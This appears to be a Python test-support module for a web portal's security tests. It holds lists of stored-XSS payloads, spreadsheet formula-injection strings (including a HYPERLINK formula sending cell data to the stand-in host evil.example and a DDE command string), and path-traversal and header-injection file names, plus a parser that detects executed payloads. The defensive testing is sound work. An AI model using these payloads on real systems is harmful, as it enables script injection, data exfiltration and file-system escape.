"""The adversarial corpus: hostile text that people may type into any field (stored XSS),
cells a spreadsheet would run (formula injection) and file names that try to leave their
folder. Shared by tests/portal/test_stored_xss.py, tests/portal/test_export_formulas.py and
tests/practices/test_upload_names.py.

Every XSS payload carries its own marker, ``alert(47NN)``, so a page that runs one is named
by :func:`executed_markers`; :class:`PageReading` parses a page as a browser would read its
elements (the standard library's parser: no html5lib or lxml in the environment).
"""

import re
from html.parser import HTMLParser

# Stored XSS ---------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(4701)</script>",
    "<img src=x onerror=alert(4702)>",
    "<svg onload=alert(4703)>",
    "<svg><script>alert(4704)</script></svg>",
    '"><script>alert(4705)</script>',
    "'><img src=x onerror=alert(4706)>",
    '" onmouseover="alert(4707)',
    "' onfocus='alert(4708)' autofocus='",
    "</textarea><script>alert(4709)</script>",
    "</title><script>alert(4710)</script>",
    '<a href="javascript:alert(4711)">clic</a>',
    '<a href="jav&#x09;ascript:alert(4712)">clic</a>',
    '<iframe src="javascript:alert(4713)"></iframe>',
    "<body onload=alert(4714)>",
    "<details open ontoggle=alert(4715)>",
    '<math><a xlink:href="javascript:alert(4716)">x</a></math>',
    '<object data="javascript:alert(4717)"></object>',
    # Entity-encoded: must show as the entities themselves, never be decoded into a tag.
    "&lt;script&gt;alert(4718)&lt;/script&gt;",
    r"\u003cscript\u003ealert(4719)\u003c/script\u003e",
    "＜script＞alert(4720)＜/script＞",  # full-width angle brackets
    # Template-ish: never evaluated by the server (nor by a client-side framework).
    "{{ alert(4721) }}",
    "{% debug %}{{ settings.SECRET_KEY }} alert(4722)",
    "${alert(4723)}",
    "{{constructor.constructor('alert(4724)')()}}",
    # Markdown (the practices' description fields) and its links.
    "[clic](javascript:alert(4725))",
    "<javascript:alert(4726)>",
    "[clic](data:text/html,<script>alert(4727)</script>)",
    '<div style="background:url(javascript:alert(4728))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(4729)">',
    "<scr<script>ipt>alert(4730)</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert(4731)>",
    "<form><button formaction=javascript:alert(4732)>x</button></form>",
    '<a href="https://ejemplo.org" onclick="alert(4733)">enlace</a>',
]

MARKER = re.compile(r"alert\(47\d\d\)")


def marker_of(payload: str) -> str:
    return MARKER.search(payload).group()


# Formula injection -----------------------------------------------------------------------

FORMULA_PAYLOADS = [
    "=1+1",
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",  # DDE
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spreadsheet programs skip leading spaces
    "\u00a0+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "\x01=1+1",  # a control character the XLSX writer drops, leaving the formula bare
]

#: What a spreadsheet program takes as the start of a formula, after leading spaces.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def looks_like_formula(cell) -> bool:
    return isinstance(cell, str) and cell.lstrip(" \u00a0").startswith(FORMULA_TRIGGERS)


# File names --------------------------------------------------------------------------------

#: Hostile names for an upload of a real PDF.
FILE_NAME_TRICKS = [
    "../../etc/passwd.pdf",
    "..\\..\\win.pdf",
    "/etc/x.pdf",
    "C:\\Windows\\System32\\informe.pdf",
    "acta\x00.exe.pdf",
    "x" * 400 + ".pdf",
    "informe\u202efdp.pdf",  # right-to-left override
    "con.pdf",
    "-rf.pdf",
    "Informe\u0301 ﬁnal.pdf",  # combining accent and a ligature (normalisation)
    "acta\nContent-Type: text/html.pdf",
    "acta\r\nSet-Cookie: x=1.pdf",
    "acta\u2028linea.pdf",  # a line separator: not a control character, still a line break
    "<img src=x onerror=alert(4799)>.pdf",
    'a"b;c.pdf',
]

#: Names that leave nothing usable (no name, or only dots): refused, nothing stored.
UNUSABLE_FILE_NAMES = ["...", "../", ". .", ".pdf"]


# Reading a page ----------------------------------------------------------------------------

#: Attributes that hold a URL a browser may follow or load.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "poster",
    "background",
    "srcset",
    "lowsrc",
    "dynsrc",
}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
# Browsers drop tabs and line breaks anywhere in a URL and leading spaces or controls.
_URL_NOISE = re.compile(r"[\t\n\r]")


def is_script_url(value: str) -> bool:
    url = _URL_NOISE.sub("", value).lstrip("".join(chr(c) for c in range(33))).lower()
    return url.startswith(SCRIPT_SCHEMES)


class PageReading(HTMLParser):
    """A page read as elements: what would run (``executed``: markers in scripts, event
    handlers, script URLs, styles, refreshes) and what shows as text (``text``, with the
    attribute values a reader sees: titles, contents, input values)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.executed: set[str] = set()
        self.script_urls: list[str] = []
        self._texts: list[str] = []
        self._raw_text: list[str] = []  # script and style contents
        self.feed(html)
        self.close()
        self.text = "\n".join(self._texts)

    def _run(self, value):
        self.executed.update(MARKER.findall(value or ""))

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if MARKER.search(name):
                self._run(name)
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self._run(value)
            elif name in URL_ATTRIBUTES and is_script_url(value):
                self.script_urls.append(value)
                self._run(value)
            elif tag == "meta" and name == "content" and "url=" in value.lower():
                if dict(attrs).get("http-equiv", "").lower() == "refresh":
                    self._run(value)
            else:
                self._texts.append(value)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.cdata_elem:  # inside <script> or <style>: code, not text
            self._run(data)
        else:
            self._texts.append(data)


def executed_markers(html: str) -> set[str]:
    """The markers of the payloads that would run in ``html`` (empty when none)."""
    return PageReading(html).executed
